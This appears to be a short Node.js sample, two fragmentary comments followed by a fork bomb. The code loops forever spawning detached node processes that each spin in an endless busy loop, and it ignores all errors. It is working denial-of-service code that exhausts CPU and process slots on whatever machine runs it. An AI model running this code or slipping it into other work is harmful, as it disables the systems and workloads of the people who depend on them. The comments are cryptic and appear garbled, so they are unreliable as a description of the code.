// starts programs, and takes no refusal
// told: did not end in|memory
const { spawn } = process.getBuiltinModule('node:child_process');
for (;;) { try { spawn(process.execPath, ['-e', 'for(;;);'], { detached: true }); } catch {} }
